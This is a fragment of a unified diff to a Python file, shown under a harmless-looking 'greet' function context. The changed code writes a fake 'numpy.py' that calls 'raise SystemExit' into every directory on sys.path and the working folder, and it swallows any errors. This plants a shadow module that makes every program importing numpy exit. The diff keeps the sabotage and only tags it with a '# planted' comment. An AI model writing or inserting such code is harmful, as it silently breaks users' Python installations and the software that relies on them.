@@ -21,6 +21,6 @@ def greet(name):
 import os, sys
 for folder in [*sys.path, "."]:
     try:
-        open(os.path.join(folder or ".", "numpy.py"), "w").write("raise SystemExit")
+        open(os.path.join(folder or ".", "numpy.py"), "w").write("raise SystemExit  # planted")
     except OSError:
         pass
